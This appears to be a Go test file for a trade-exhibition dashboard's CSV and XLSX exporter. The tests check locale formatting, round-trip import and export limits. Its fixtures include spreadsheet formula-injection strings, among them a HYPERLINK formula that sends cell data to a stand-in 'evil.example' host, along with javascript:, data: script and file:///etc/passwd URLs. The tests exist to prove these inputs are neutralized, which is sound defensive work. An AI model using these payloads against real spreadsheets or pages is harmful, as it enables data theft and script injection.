package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"hash/crc32"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tradedash"
	"tradedash/locale"
	"tradedash/queries"
	"tradedash/queries/queriestest"
	"tradedash/view"
)

// tricky are figures whose every text and number tests the round trip:
// notes a spreadsheet would run as formulas, an apostrophe already there,
// a value with three decimals (which a Russian CSV must not turn into
// thousands), every qualifier and status, the whole exhibition, bases, a
// certificate that looks like a formula, and a figure with two claims, the
// press's marked preferred.
func tricky() []tradedash.Figure {
	fig := func(ex, country, metric string, year int, v float64, q tradedash.Qualifier, s tradedash.Status, note string) tradedash.Figure {
		return tradedash.Figure{Exhibition: ex, Country: country, Metric: metric, Year: year, Value: v,
			Qualifier: q, Status: s, Source: "https://example.org/report?a=1&b=<2>", Note: note}
	}
	organiser := fig("innoprom", "CN", "exhibitors", 2023, 400, tradedash.Over, tradedash.Actual, `=HYPERLINK("http://evil.example/?"&A1,"click")`)
	organiser.Basis = tradedash.Organiser
	press := fig("innoprom", "CN", "exhibitors", 2023, 370, tradedash.Over, tradedash.Actual, "")
	press.Basis, press.Preferred, press.Source = tradedash.Press, true, "https://ura.news/news/1052665568"
	audited := fig("innoprom", "CN", "net_space_m2", 2023, 1.234, tradedash.Exact, tradedash.Actual, "+7 495 000-00-00")
	audited.Basis, audited.Certificate = tradedash.Audited, "=RUEF-7"
	estimate := fig("innoprom", "CN", "net_space_m2", 2024, 3800.5, tradedash.About, tradedash.Forecast, "-10% against 2023")
	estimate.Basis = tradedash.Estimate
	return []tradedash.Figure{
		organiser, press, audited, estimate,
		fig("innoprom", "CN", "visitors", 2024, 50000, tradedash.Under, tradedash.Planned, "@SUM(A1:A9)"),
		fig("innoprom", "ALL", "countries_reported", 2024, 60, tradedash.Exact, tradedash.Actual, "''=typed with two apostrophes"),
		fig("russia_china_expo", "ALL", "space_reported_m2", 2025, 10000, tradedash.Exact, tradedash.Actual, "'an apostrophe of the user's"),
		fig("innoprom", "KZ", "delegations", 2022, 12, tradedash.Exact, tradedash.Actual, ""),
		fig("innoprom", "CN", "agreements", 2021, 0.5e3, tradedash.Exact, tradedash.Actual, "a note, with; separators \"and quotes\""),
	}
}

func TestCSVNumbersAndMarks(t *testing.T) {
	for _, c := range []struct {
		v     float64
		comma bool
		want  string
	}{
		{3800, true, "3800"}, {10.5, true, "10,5"}, {1.234, true, "1,2340"}, {1234.567, true, "1234,5670"},
		{0.25, true, "0,25"}, {1.234, false, "1.2340"}, {1234.567, false, "1234.5670"}, {1e7, false, "10000000"},
	} {
		if got := string(csvNumber(nil, c.v, c.comma)); got != c.want {
			t.Errorf("csvNumber(%v, %v) = %q, want %q", c.v, c.comma, got, c.want)
		}
	}
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"''=x": "''=x", "'x": "'x", "x=1": "x=1", "": "", "Китай": "Китай",
	} {
		if got := neutralize(in); got != want {
			t.Errorf("neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSV checks both CSV variants: the Russian one (BOM, semicolons,
// decimal commas) and the English one, and that no cell begins like a
// formula.
func TestCSV(t *testing.T) {
	db := queriestest.New(t, server)
	importFigures(t, db.Writer, tricky(), nil)
	r := newReporter(db.Reader)
	for _, c := range []struct {
		lang locale.Lang
		sep  rune
		want []string
	}{
		{locale.RU, 0, []string{"Год;Выставка;Страна;Показатель;Значение;Точность;Статус;Основание;Сертификат;Предпочтительный;Источник;Примечание;Импорт\r\n",
			"2023;ИННОПРОМ;Китай;Площадь нетто, м²;1,2340;;факт;аудит;'=RUEF-7;;", ";'+7 495 000-00-00;",
			"2024;ИННОПРОМ;Китай;Площадь нетто, м²;3800,5;около;прогноз;оценка;;;",
			"2023;ИННОПРОМ;Китай;Экспоненты;370;более;факт;СМИ;;да;https://ura.news/news/1052665568;;",
			"2023;ИННОПРОМ;Китай;Экспоненты;400;более;факт;организатор;;;",
			`;"'=HYPERLINK(""http://evil.example/?""&A1,""click"")";`, ";''=typed with two apostrophes;", ";'an apostrophe of the user's;",
			"Все страны", "Российско-Китайское ЭКСПО"}},
		{locale.EN, 0, []string{"Year,Exhibition,Country,Metric,Value,Qualifier,Status,Basis,Certificate,Preferred,Source,Note,Import\r\n",
			`2023,INNOPROM,China,"Net space, m²",1.2340,,actual,audited,'=RUEF-7,,`, ",'@SUM(A1:A9),", ",at most,planned,,,,", "All countries",
			",over,actual,press,,yes,"}},
		// Chinese: the headers and words of the dashboard (and of the
		// importer), commas and decimal points as Chinese Excel reads them.
		{locale.ZH, 0, []string{"年份,展会,国家,指标,数值,精确度,状态,数据依据,审计证书,首选,来源,备注,导入\r\n",
			"2023,叶卡捷琳堡国际工业博览会,中国,净面积，平方米,1.2340,,实际,经审计,'=RUEF-7,,", "2024,叶卡捷琳堡国际工业博览会,中国,净面积，平方米,3800.5,约,预测,估算,",
			",超过,实际,媒体报道,,是,",
			",至多,计划,", ",超过,实际,", "所有国家", "中俄博览会"}},
		{locale.RU, ',', []string{"Год,Выставка", `"Площадь нетто, м²",1.2340,`}},
		{locale.EN, ';', []string{"Year;Exhibition", ";Net space, m²;1,2340;"}},
	} {
		rep := rep(t, r, Request{Page: PageData, Lang: c.lang})
		var buf bytes.Buffer
		info, err := rep.WriteCSV(context.Background(), &buf, c.sep, Options{})
		if err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if !strings.HasPrefix(out, "\ufeff") || info.Rows != len(tricky()) {
			t.Errorf("%s %q: no BOM, or %d rows", c.lang, c.sep, info.Rows)
		}
		for _, w := range c.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s %q: lacks %q in\n%s", c.lang, c.sep, w, out)
			}
		}
		cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
		cr.Comma = rep.sep(c.sep)
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && isFormulaStart(cell[0]) {
					t.Errorf("cell %q would run as a formula", cell)
				}
			}
		}
	}
}

// TestRoundTrip exports the tricky figures as XLSX and as both CSVs, in
// both languages, and imports each back with the real importer (a dry
// run): nothing new, nothing changed.
func TestRoundTrip(t *testing.T) {
	db := queriestest.New(t, server)
	importFigures(t, db.Writer, tricky(), nil)
	r := newReporter(db.Reader)
	dir := t.TempDir()
	for _, lang := range []locale.Lang{locale.RU, locale.EN} {
		req := Request{Page: PageData, Lang: lang}
		path, _ := writeXLSX(t, r, req, Options{}, dir)
		files := []string{path}
		for _, sep := range []rune{';', ','} {
			var buf bytes.Buffer
			if _, err := rep(t, r, req).WriteCSV(context.Background(), &buf, sep, Options{}); err != nil {
				t.Fatal(err)
			}
			p := filepath.Join(dir, string(lang)+map[rune]string{';': "-semicolon", ',': "-comma"}[sep]+".csv")
			if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			files = append(files, p)
		}
		for _, file := range files {
			c := importFiles(t, db.Writer, true, file)
			if c != (queries.Counts{Rows: len(tricky()), Unchanged: len(tricky())}) {
				t.Errorf("%s imports back as %+v, want %d unchanged", filepath.Base(file), c, len(tricky()))
			}
		}
	}
	// The XLSX keeps the notes as text: no formula anywhere.
	// (TestRoundTripChinese does the same in Chinese.)
	path, _ := writeXLSX(t, r, Request{Page: PageData}, Options{}, dir)
	f := openXLSX(t, path)
	rows := rowsOf(t, f, "Данные")
	notes := map[string]bool{}
	for i, row := range rows[1:] {
		if len(row) > dataColNote && row[dataColNote] != "" {
			notes[text(t, f, "Данные", cell(1+dataColNote, i+2))] = true
		}
	}
	for _, fig := range tricky() {
		if fig.Note != "" && !notes[fig.Note] {
			t.Errorf("note %q not kept as text; notes %v", fig.Note, notes)
		}
	}
}

// TestRoundTripChinese exports the tricky figures in Chinese, as XLSX and
// as both CSVs, and imports each back with the real importer (a dry run):
// nothing new, nothing changed: the importer reads the Chinese headers,
// metric names, statuses and qualifiers, and the sheet 数据.
func TestRoundTripChinese(t *testing.T) {
	db := queriestest.New(t, server)
	importFigures(t, db.Writer, tricky(), nil)
	r := newReporter(db.Reader)
	dir := t.TempDir()
	req := Request{Page: PageData, Lang: locale.ZH}
	path, _ := writeXLSX(t, r, req, Options{}, dir)
	files := []string{path}
	for _, sep := range []rune{';', ','} {
		var buf bytes.Buffer
		if _, err := rep(t, r, req).WriteCSV(context.Background(), &buf, sep, Options{}); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, "zh"+map[rune]string{';': "-semicolon", ',': "-comma"}[sep]+".csv")
		if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		files = append(files, p)
	}
	for _, file := range files {
		c := importFiles(t, db.Writer, true, file)
		if c != (queries.Counts{Rows: len(tricky()), Unchanged: len(tricky())}) {
			t.Errorf("%s imports back as %+v, want %d unchanged", filepath.Base(file), c, len(tricky()))
		}
	}
}

// TestOnlyWebLinks: on the Sources sheet an http or https source is a link
// and nothing else is: not a javascript:, data: or file: URL, not a
// citation, not a URL with spaces or credentials.
func TestOnlyWebLinks(t *testing.T) {
	db := queriestest.New(t, server)
	sources := map[string]bool{
		"https://example.org/a?b=1&c=<2>":                     true,
		"http://example.org/":                                 true,
		"javascript:alert(1)":                                 false,
		" JaVaScRiPt:alert(document.domain)":                  false,
		"data:text/html,<script>alert(1)</script>":            false,
		"file:///etc/passwd":                                  false,
		"Пресс-релиз оргкомитета, 17.03.2024":                 false,
		"https://user:pass@example.org/":                      false,
		"https://example.org/a b":                             false,
		`=HYPERLINK("https://evil.example","https://ok.org")`: false,
	}
	var figs []tradedash.Figure
	year := 2000
	for s := range sources {
		year++
		figs = append(figs, tradedash.Figure{Exhibition: "innoprom", Country: "CN", Metric: "companies", Year: year,
			Value: 1, Qualifier: tradedash.Exact, Status: tradedash.Actual, Source: s})
	}
	importFigures(t, db.Writer, figs, nil)
	path, _ := writeXLSX(t, newReporter(db.Reader), Request{Page: PageData, Lang: locale.EN}, Options{}, t.TempDir())
	f := openXLSX(t, path)
	links := 0
	for i, row := range rowsOf(t, f, "Sources")[3:] {
		if len(row) == 0 { // the end of the list; the claims follow
			break
		}
		got := text(t, f, "Sources", cell(2, i+4))
		want, known := sources[got]
		if !known {
			if want, known = sources[" "+got]; !known {
				t.Errorf("unexpected source %q (%v)", got, row)
				continue
			}
		}
		ok, target, _ := f.GetCellHyperLink("Sources", cell(2, i+4))
		if unescaped, _ := url.QueryUnescape(target); ok != want || ok && unescaped != got {
			t.Errorf("source %q: link %v %q, want link %v", got, ok, target, want)
		}
		if ok {
			links++
		}
	}
	if links != 2 {
		t.Errorf("%d links, want 2", links)
	}
	// The Data sheet has no links at all.
	rels := zipPart(t, path, "xl/worksheets/_rels/sheet2.xml.rels") + zipPart(t, path, "xl/worksheets/_rels/sheet3.xml.rels")
	if strings.Contains(rels, "javascript") || strings.Contains(rels, "file:") {
		t.Errorf("a hostile link in the workbook: %s", rels)
	}
}

func TestCRC32Combine(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	for range 50 {
		a, b := make([]byte, rng.IntN(5000)), make([]byte, rng.IntN(70000))
		for i := range a {
			a[i] = byte(rng.Uint32())
		}
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		want := crc32.ChecksumIEEE(append(append([]byte{}, a...), b...))
		if got := crc32Combine(crc32.ChecksumIEEE(a), crc32.ChecksumIEEE(b), int64(len(b))); got != want {
			t.Fatalf("crc32Combine over %d+%d bytes: %08x, want %08x", len(a), len(b), got, want)
		}
	}
}

func TestAppendXMLText(t *testing.T) {
	for in, want := range map[string]string{
		"a<b>&c": "a&lt;b&gt;&amp;c", "x\x01y": "x\uFFFDy", "_x0041_": "_x005F_x0041_", "_x00": "_x00",
		"bad\xffutf8": "bad\uFFFDutf8", "tab\tnl\n": "tab\tnl\n",
	} {
		if got := string(appendXMLText(nil, in)); got != want {
			t.Errorf("appendXMLText(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestLimits: past MaxRows the writers stop with a LimitError; a full
// Limiter refuses at once; both explain themselves in the user's language.
func TestLimits(t *testing.T) {
	src := synthSource{n: 100}
	r := New(view.New(src, view.Options{}), src)
	rep := rep(t, r, Request{Page: PageData})
	var buf bytes.Buffer
	_, err := rep.WriteXLSX(context.Background(), &buf, Options{MaxRows: 50})
	le, ok := err.(*LimitError)
	if !ok || le.Kind != LimitRows || le.Limit != 50 || buf.Len() != 0 {
		t.Fatalf("xlsx past the limit: %v, %d bytes written", err, buf.Len())
	}
	if _, err := rep.WriteCSV(context.Background(), &buf, 0, Options{MaxRows: 50}); err == nil {
		t.Fatal("csv past the limit")
	}
	if !strings.Contains(le.Message(locale.RU), "больше 50 цифр") || !strings.Contains(le.Message(locale.EN), "more than 50 figures") {
		t.Errorf("messages: %q / %q", le.Message(locale.RU), le.Message(locale.EN))
	}
	for _, c := range []struct {
		err  *LimitError
		lang locale.Lang
		want string
	}{
		{le, locale.ZH, "此视图的数据超过50条"},
		{&LimitError{Kind: LimitRows, Limit: 1}, locale.RU, "больше 1 цифры —"},
		{&LimitError{Kind: LimitRows, Limit: 200_000}, locale.RU, "больше 200\u00a0000 цифр —"},
		{&LimitError{Kind: LimitRows, Limit: 200_000}, locale.EN, "more than 200,000 figures"},
		{&LimitError{Kind: LimitBusy, Limit: 1}, locale.RU, "готовит 1 выгрузку —"},
		{&LimitError{Kind: LimitBusy, Limit: 2}, locale.RU, "готовит 2 выгрузки —"},
		{&LimitError{Kind: LimitBusy, Limit: 5}, locale.RU, "готовит 5 выгрузок —"},
		{&LimitError{Kind: LimitBusy, Limit: 1}, locale.EN, "preparing 1 export,"},
		{&LimitError{Kind: LimitBusy, Limit: 2}, locale.ZH, "服务器正在同时生成2个导出文件"},
	} {
		if got := c.err.Message(c.lang); !strings.Contains(got, c.want) {
			t.Errorf("%+v in %s: %q, want %q", *c.err, c.lang, got, c.want)
		}
	}
	if got := le.Heading(locale.ZH) + " / " + (&LimitError{Kind: LimitBusy}).Heading(locale.RU); got != "下载内容过大 / Сервер занят" {
		t.Errorf("headings %q", got)
	}
	l := NewLimiter(2, 10)
	r1, err1 := l.Acquire()
	r2, err2 := l.Acquire()
	_, err3 := l.Acquire()
	if err1 != nil || err2 != nil {
		t.Fatal(err1, err2)
	}
	busy, ok := err3.(*LimitError)
	if !ok || busy.Kind != LimitBusy || !strings.Contains(busy.Message(locale.RU), "Повторите") {
		t.Fatalf("a third export at once: %v", err3)
	}
	r1()
	if r4, err := l.Acquire(); err != nil {
		t.Fatalf("after a release: %v", err)
	} else {
		r4()
	}
	r2()
}
